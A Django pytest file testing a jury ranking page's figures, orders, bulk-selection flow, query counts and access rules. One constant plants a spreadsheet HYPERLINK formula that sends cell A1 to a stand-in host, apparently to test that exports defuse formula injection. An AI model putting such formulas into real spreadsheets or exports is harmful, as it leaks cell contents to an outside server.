"""The managers' ranking page (/gestion/jury/classement/): the exact figures of a hand-made jury,
ties, disagreements, the calibrated column beside the raw one, the orders, the envelope, the
selection form that leads to the bulk move's confirmation, its constant queries, and 404 for
everyone else.

The case (`build_case`, the exports' tests use it too): three criteria weighted 2, 1, 1 on a 1-4
scale (a total out of 16); sub-jury A (lenient) hears Alpha, Bêta, Gamma, sub-jury B (strict)
hears Delta, Epsilon, Thêta (its grid misses a criterion) and Zêta (already selected). Means on
the scale (total / 4): A 3.75, 3, 3.5 (mean 41/12); B 2.5, 2, 3.5 (mean 8/3); all 73/24.
  within  s_w² = (0.291667 + 1.166667) / (6 − 2) = 0.364583
  between s_b² = 2 × (0.375)² / 1 = 0.28125
  leniency τ² = 0.28125 − 0.364583 / 3 = 0.159722 (23/144)
  weight = τ² / (τ² + s_w² / 3) = 46/81; offsets ± 46/81 × 0.375 = ± 23/108
On the total's scale (× 4) the offsets are ± 23/27 = ± 0.85: Alpha 15 − 0.85 = 14.15, Bêta 11.15,
Gamma 13.15, Delta 10 + 0.85 = 10.85, Epsilon 8.85, Zêta 14.85.
"""

import datetime as dt
import re
from dataclasses import dataclass
from decimal import Decimal
from html.parser import HTMLParser

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from accounts.enums import Role
from jury import services
from jury.models import Opinion, Score
from lifecycle import clock
from lifecycle.enums import ChallengeState
from lifecycle.models import Challenge, SelectionCriterion
from tests.backoffice.page_text import text_of
from tests.factories import (
    AdministrationFactory,
    ChallengeFactory,
    PromotionFactory,
    administration_contact,
    heard,
    jury_member,
    programme_manager,
    user_with_role,
)
from tests.html_forms import form_data

URL = reverse("jury:ranking")
FORMULA = '=HYPERLINK("http://exemple.invalid/vol?"&A1,"Cliquez")'

# (name, sub-jury, administration, scores per criterion)
CHALLENGES = [
    ("Alpha", "A", "Ministère de l’Intérieur", [4, 4, 3]),
    ("Bêta", "A", "Ministère des Armées", [3, 3, 3]),
    ("Gamma", "A", "Ministère de la Culture", [4, 3, 3]),
    ("Delta", "B", "Ministère de la Justice", [3, 2, 2]),
    ("Epsilon", "B", "Ministère des Sports", [2, 2, 2]),
    ("Thêta", "B", "Ministère de la Mer", [3, 3, None]),
    ("Zêta", "B", "Ministère du Travail", [4, 3, 3]),
]
# Each member's general grid: challenge -> (favourable, preference, coup de cœur).
GRIDS = {
    "A": [
        {"Alpha": (True, 1, True), "Gamma": (True, 2, False), "Bêta": (True, 3, False)},
        {"Alpha": (True, 1, True), "Gamma": (True, 2, False), "Bêta": (False, 3, False)},
        {"Gamma": (True, 1, True), "Alpha": (True, 2, False), "Bêta": (False, 3, False)},
    ],
    "B": [
        {
            "Zêta": (True, 1, True),
            "Delta": (True, 2, False),
            "Thêta": (True, 3, False),
            "Epsilon": (False, 4, False),
        },
        {
            "Zêta": (True, 1, True),
            "Thêta": (False, 2, False),
            "Delta": (True, 3, False),
            "Epsilon": (False, 4, False),
        },
        {
            "Zêta": (True, 1, False),
            "Delta": (False, 2, False),
            "Thêta": (True, 3, False),
            "Epsilon": (False, 4, False),
        },
    ],
}


@dataclass
class Case:
    promotion: object
    jury: object
    challenges: dict
    criteria: list
    scorer: object
    day: dt.date


def build_case() -> Case:
    promotion = PromotionFactory(number=7, name="EIG 7")
    call = promotion.call
    SelectionCriterion.objects.filter(call=call).delete()
    criteria = [
        SelectionCriterion.objects.create(call=call, name="Impact", weight=Decimal("2"), rank=1),
        SelectionCriterion.objects.create(call=call, name="Équipe", rank=2),
        SelectionCriterion.objects.create(call=call, name="Innovation", rank=3),
    ]
    jury = services.jury_of(promotion)
    sub_juries = {
        "A": jury.sub_juries.create(name="Sous-jury A"),
        "B": jury.sub_juries.create(name="Sous-jury B"),
    }
    scorer = programme_manager(username="greffe", first_name="Alex", last_name="Greffier")
    challenges = {}
    for name, sub_jury, administration, values in CHALLENGES:
        challenge = ChallengeFactory(
            promotion=promotion,
            name=name,
            administration=AdministrationFactory(name=administration),
            state=ChallengeState.SELECTED if name == "Zêta" else ChallengeState.PITCHED,
        )
        heard(challenge, [value or 1 for value in values], sub_jury=sub_juries[sub_jury], by=scorer)
        if None in values:
            Score.objects.filter(challenge=challenge, criterion=criteria[values.index(None)]).delete()
        challenges[name] = challenge
    Score.objects.filter(challenge=challenges["Alpha"], criterion=criteria[0]).update(comment=FORMULA)
    # Pitched, never heard: not in the ranking.
    ChallengeFactory(promotion=promotion, name="Iota", state=ChallengeState.PITCHED)
    day = call.jury_starts_on
    after_the_auditions = timezone.make_aware(dt.datetime.combine(day, dt.time(18, 0)))
    for key, grids in GRIDS.items():
        members = [
            jury_member(jury, last_name=f"Juré {key}{index}", username=f"jure-{key}{index}")
            for index in range(len(grids))
        ]
        sub_juries[key].members.set(members)
        for member, grid in zip(members, grids, strict=True):
            verdicts = [
                services.Verdict(
                    challenge_id=challenges[name].pk,
                    favourable=favourable,
                    preference=preference,
                    explanation=f"Avis de {member} sur {name}.",
                    favourite=favourite,
                )
                for name, (favourable, preference, favourite) in grid.items()
            ]
            with clock.at(after_the_auditions):
                services.save_general_grid(member, verdicts, by=member.user)
    return Case(promotion, jury, challenges, criteria, scorer, day)


@pytest.fixture
def case(db):
    return build_case()


@pytest.fixture
def manager_client(client, db):
    client.force_login(programme_manager(username="gestionnaire", first_name="Claude", last_name="Etalab"))
    return client


# The table's cells as read ---------------------------------------------------------------------


class _TableReader(HTMLParser):
    """The header and body cells' texts of the first table inside the element with `container`."""

    def __init__(self, container):
        super().__init__()
        self.container, self.depth, self.done = container, 0, False
        self.headers, self.rows, self.cell, self.section = [], [], None, None

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        if self.done:
            return
        if not self.depth:
            if attrs.get("id") == self.container:
                self.depth = 1
            return
        if tag in ("thead", "tbody"):
            self.section = tag
        elif tag == "tr" and self.section == "tbody":
            self.rows.append([])
        elif tag in ("th", "td"):
            self.cell = []

    def handle_endtag(self, tag):
        if not self.depth or self.done:
            return
        if tag == "table":
            self.done = True
        elif tag in ("th", "td") and self.cell is not None:
            text = " ".join("".join(self.cell).split())
            (self.headers if self.section == "thead" else self.rows[-1]).append(text)
            self.cell = None

    def handle_data(self, data):
        if self.cell is not None:
            self.cell.append(data)


def ranking_table(html: str) -> list[dict]:
    reader = _TableReader("ranking")
    reader.feed(html)
    return [dict(zip(reader.headers, row, strict=True)) for row in reader.rows]


HEADERS = [
    "Choisir",
    "Rang",
    "Défi",
    "Administration",
    "Sous-jury",
    "Impact sur 4, poids 2",
    "Équipe sur 4",
    "Innovation sur 4",
    "Total brut sur 16",
    "Total calibré",
    "Décalage du sous-jury",
    "Avis favorables",
    "Rang de préférence moyen",
    "Coups de cœur",
    "À noter",
    "État",
]
PITCHED = "Invité à pitcher devant le jury"


def row(position, name, administration, sub_jury, scores, raw, calibrated, offset, opinions, preference,
        favourites, notes, state=PITCHED):  # fmt: skip
    return dict(
        zip(
            HEADERS,
            [
                f"Choisir « {name} »" if state == PITCHED else "",  # the box's label, for screen readers
                position,
                name,
                administration,
                sub_jury,
                *scores,
                raw,
                calibrated,
                offset,
                opinions,
                preference,
                favourites,
                notes,
                state,
            ],
            strict=True,
        )
    )


def test_the_page_shows_each_heard_challenge_with_its_exact_figures(manager_client, case):
    response = manager_client.get(URL, {"promotion": 7})
    assert response.status_code == 200
    html = response.content.decode()
    assert ranking_table(html) == [
        row("1", "Zêta", "Ministère du Travail", "Sous-jury B", ["4", "3", "3"],
            "14", "14,85", "-0,85", "3/3", "1,00", "2", "", "Sélectionné"),
        row("2", "Alpha", "Ministère de l’Intérieur", "Sous-jury A", ["4", "4", "3"],
            "15", "14,15", "+0,85", "3/3", "1,33", "2", ""),
        row("3", "Gamma", "Ministère de la Culture", "Sous-jury A", ["4", "3", "3"],
            "14", "13,15", "+0,85", "3/3", "1,67", "1", ""),
        row("4", "Bêta", "Ministère des Armées", "Sous-jury A", ["3", "3", "3"],
            "12", "11,15", "+0,85", "1/3", "3,00", "0", "désaccord"),
        row("5", "Delta", "Ministère de la Justice", "Sous-jury B", ["3", "2", "2"],
            "10", "10,85", "-0,85", "2/3", "2,33", "0", "désaccord"),
        row("6", "Epsilon", "Ministère des Sports", "Sous-jury B", ["2", "2", "2"],
            "8", "8,85", "-0,85", "0/3", "4,00", "0", ""),
        row("7", "Thêta", "Ministère de la Mer", "Sous-jury B", ["3", "3", "—"],
            "—", "—", "-0,85", "2/3", "2,67", "0", "désaccord grille incomplète"),
    ]  # fmt: skip
    text = text_of(html)
    assert "ex aequo" not in text  # no tie on the calibrated total
    assert "Iota" not in text  # pitched but never heard
    # Each challenge links its case.
    assert f'href="{reverse("backoffice:challenge", args=[case.challenges["Alpha"].pk])}"' in html
    # The calibrated total is explained, beside the raw one, with where the method is written.
    assert (
        "Total calibré : certains sous-jurys notent systématiquement plus haut ou plus bas que les autres."
        in text
    )
    assert "total brut − décalage = total calibré. Méthode : voir la documentation" in text
    assert "Méthode : voir la documentation (<code>docs/jury.md</code>)." in html


def test_the_raw_order_shows_ties_ex_aequo(manager_client, case):
    html = manager_client.get(URL, {"promotion": 7, "tri": "brut"}).content.decode()
    table = ranking_table(html)
    assert [(line["Rang"], line["Défi"], line["Total brut sur 16"]) for line in table] == [
        ("1", "Alpha", "15"),
        ("2 ex aequo", "Gamma", "14"),
        ("2 ex aequo", "Zêta", "14"),
        ("4", "Bêta", "12"),
        ("5", "Delta", "10"),
        ("6", "Epsilon", "8"),
        ("7", "Thêta", "—"),
    ]
    # Both totals stay side by side whatever the order.
    assert [line["Total calibré"] for line in table] == [
        "14,15",
        "13,15",
        "14,85",
        "11,15",
        "10,85",
        "8,85",
        "—",
    ]
    assert 'option value="brut" selected' in html


def test_the_opinions_order(manager_client, case):
    table = ranking_table(manager_client.get(URL, {"promotion": 7, "tri": "avis"}).content.decode())
    assert [(line["Défi"], line["Avis favorables"], line["Rang de préférence moyen"]) for line in table] == [
        ("Zêta", "3/3", "1,00"),
        ("Alpha", "3/3", "1,33"),
        ("Gamma", "3/3", "1,67"),
        ("Delta", "2/3", "2,33"),
        ("Thêta", "2/3", "2,67"),
        ("Bêta", "1/3", "3,00"),
        ("Epsilon", "0/3", "4,00"),
    ]


def test_an_unknown_order_is_the_calibrated_one(manager_client, case):
    table = ranking_table(manager_client.get(URL, {"promotion": 7, "tri": "n'importe"}).content.decode())
    assert [line["Défi"] for line in table] == ["Zêta", "Alpha", "Gamma", "Bêta", "Delta", "Epsilon", "Thêta"]


def test_the_ranking_is_provisional_until_the_jury_is_closed(manager_client, case):
    text = text_of(manager_client.get(URL, {"promotion": 7}).content.decode())
    assert "Classement provisoire : le jury n’est pas clos" in text
    Score.objects.create(
        challenge=case.challenges["Thêta"],
        criterion=case.criteria[2],
        value=2,
        comment="Complété.",
        updated_at=timezone.now(),
        updated_by=case.scorer,
    )
    closing = timezone.make_aware(dt.datetime.combine(case.day, dt.time(19, 0)))
    with clock.at(closing):
        services.close(
            case.jury, by=programme_manager(username="cloture", first_name="Dominique", last_name="Clot")
        )
    text = text_of(manager_client.get(URL, {"promotion": 7}).content.decode())
    assert "Classement provisoire" not in text
    assert "grille incomplète" not in text
    assert f"Jury clos le {case.day.day} " in text


def test_the_envelope_is_shown_above_the_table(manager_client, case):
    call = case.promotion.call
    call.cofinancing_envelope = Decimal("300000")
    call.save()
    html = manager_client.get(URL, {"promotion": 7}).content.decode()
    text = text_of(html)
    # Zêta, selected, asks for 105 000 € (the factory's) from an eligible ministry.
    assert "105 000,00 € engagés sur 300 000,00 € (35 %) — reste 195 000,00 €" in text
    assert html.index('id="envelope"') < html.index('id="ranking"')


def test_the_selection_form_takes_the_ticked_pitched_challenges_to_the_bulk_confirmation(
    manager_client, case
):
    response = manager_client.get(URL, {"promotion": 7, "tri": "brut"})
    html = response.content.decode()
    # A box for each pitched challenge, none for the selected one.
    boxes = re.findall(r'<input type="checkbox" name="challenges" value="(\d+)"', html)
    pitched = {case.challenges[name].pk for name in ("Alpha", "Bêta", "Gamma", "Delta", "Epsilon", "Thêta")}
    assert sorted(map(int, boxes)) == sorted(pitched)
    assert (
        f'<form method="post" action="{reverse("backoffice:bulk_transition")}" id="selection-form">' in html
    )
    assert (
        '<button class="fr-btn" type="submit" name="transition" value="select">Sélectionner</button>' in html
    )
    assert 'name="transition" value="not_select">Ne pas sélectionner</button>' in html
    data = form_data(html, "selection-form")
    assert data["next"] == f"{URL}?promotion=7&tri=brut"

    # Ticking Alpha and Gamma and pressing "Sélectionner": the confirmation page, nothing moved.
    chosen = [case.challenges["Alpha"].pk, case.challenges["Gamma"].pk]
    confirmation = manager_client.post(
        reverse("backoffice:bulk_transition"), {**data, "challenges": chosen, "transition": "select"}
    )
    assert confirmation.status_code == 200
    text = text_of(confirmation.content.decode())
    assert "Confirmer : « Sélectionner »" in text
    assert "« Sélectionner » s’appliquera aux 2 défis sélectionnés." in text
    confirm = form_data(confirmation.content.decode(), "bulk-confirm")
    assert sorted(map(int, confirm["challenges"])) == sorted(chosen)
    assert confirm["next"] == f"{URL}?promotion=7&tri=brut"
    assert Challenge.objects.filter(pk__in=chosen, state=ChallengeState.PITCHED).count() == 2

    # Confirmed with a reason: both move through the lifecycle's transition, back to the ranking.
    done = manager_client.post(
        reverse("backoffice:bulk_transition"),
        {**confirm, "reason": "Classés en tête par le jury.", "confirm": "1"},
    )
    assert done.status_code == 302
    assert done["Location"] == f"{URL}?promotion=7&tri=brut"
    moved = Challenge.objects.filter(pk__in=chosen)
    assert set(moved.values_list("state", flat=True)) == {ChallengeState.SELECTED}
    events = case.challenges["Alpha"].audit_events.filter(transition="select")
    assert list(events.values_list("reason", flat=True)) == ["Classés en tête par le jury."]


def test_an_incomplete_grid_is_refused_by_the_selection(manager_client, case):
    theta = case.challenges["Thêta"]
    html = manager_client.get(URL, {"promotion": 7}).content.decode()
    confirm = form_data(
        manager_client.post(
            reverse("backoffice:bulk_transition"),
            {**form_data(html, "selection-form"), "challenges": [theta.pk], "transition": "select"},
        ).content.decode(),
        "bulk-confirm",
    )
    response = manager_client.post(
        reverse("backoffice:bulk_transition"), {**confirm, "reason": "Essai.", "confirm": "1"}, follow=True
    )
    theta.refresh_from_db()
    assert theta.state == ChallengeState.PITCHED
    assert "La grille collective du jury n’est pas complète : il manque « Innovation »." in text_of(
        response.content.decode()
    )


def test_a_promotion_without_heard_challenges(manager_client, db):
    PromotionFactory(number=8, name="EIG 8")
    text = text_of(manager_client.get(URL, {"promotion": 8}).content.decode())
    assert "Aucun défi n’a encore été entendu" in text
    assert manager_client.get(URL, {"promotion": 99}).status_code == 404


# Constant queries ------------------------------------------------------------------------------


def _jury_of_size(number: int, count: int):
    """A promotion whose jury heard `count` challenges (two sub-juries, three members each, every
    grid and every opinion given)."""
    promotion = PromotionFactory(number=number, name=f"EIG {number}")
    jury = services.jury_of(promotion)
    sub_juries = [jury.sub_juries.create(name=f"Sous-jury {n}") for n in (1, 2)]
    members = [jury_member(jury, last_name=f"Juré {n}", username=f"jure-{number}-{n}") for n in range(6)]
    sub_juries[0].members.set(members[:3])
    sub_juries[1].members.set(members[3:])
    scorer = programme_manager(username=f"greffe-{number}")
    opinions = []
    for index in range(count):
        challenge = ChallengeFactory(promotion=promotion, state=ChallengeState.PITCHED, dossier_rows=False)
        slot = heard(
            challenge, [1 + (index + n) % 4 for n in range(5)], sub_jury=sub_juries[index % 2], by=scorer
        )
        for member in members[:3] if index % 2 == 0 else members[3:]:
            opinions.append(
                Opinion(
                    member=member,
                    challenge=challenge,
                    favourable=index % 3 != 0,
                    preference=1 + index // 2,
                    explanation="Avis.",
                    favourite=False,
                    updated_at=slot.ends_at,
                )
            )
    Opinion.objects.bulk_create(opinions)
    return promotion


def _queries(client, url, params) -> int:
    with CaptureQueriesContext(connection) as captured:
        response = client.get(url, params)
    assert response.status_code == 200
    return len(captured.captured_queries)


@pytest.mark.parametrize(
    "url",
    [
        URL,
        reverse("jury:ranking_export", args=["csv"]),
        reverse("jury:ranking_export", args=["xlsx"]),
        reverse("jury:scores_export", args=["csv"]),
        reverse("jury:scores_export", args=["ods"]),
    ],
)
def test_the_page_and_the_exports_run_the_same_queries_for_3_or_12_challenges(manager_client, url):
    small, large = _jury_of_size(21, 3), _jury_of_size(22, 12)
    _queries(manager_client, url, {"promotion": small.number})  # warm-up: the session, the caches
    assert _queries(manager_client, url, {"promotion": small.number}) == _queries(
        manager_client, url, {"promotion": large.number}
    )


# Access ------------------------------------------------------------------------------------------


@pytest.mark.parametrize("role", [Role.JURY_MEMBER, Role.ADMINISTRATION_CONTACT, Role.AUDITOR, Role.MENTOR])
def test_only_managers_see_the_ranking_and_its_exports(client, case, role):
    if role == Role.ADMINISTRATION_CONTACT:
        user = administration_contact(case.challenges["Alpha"].administration, username="contact")
    elif role == Role.JURY_MEMBER:
        user = case.jury.members.first().user
    else:
        user = user_with_role(role, username=f"someone-{role}")
    client.force_login(user)
    for url in (
        URL,
        reverse("jury:ranking_export", args=["csv"]),
        reverse("jury:scores_export", args=["xlsx"]),
    ):
        assert client.get(url, {"promotion": 7}).status_code == 404, (role, url)


def test_a_visitor_is_sent_to_the_login_page(client, case):
    response = client.get(URL, {"promotion": 7})
    assert response.status_code == 302
    assert response["Location"].startswith(reverse("login"))
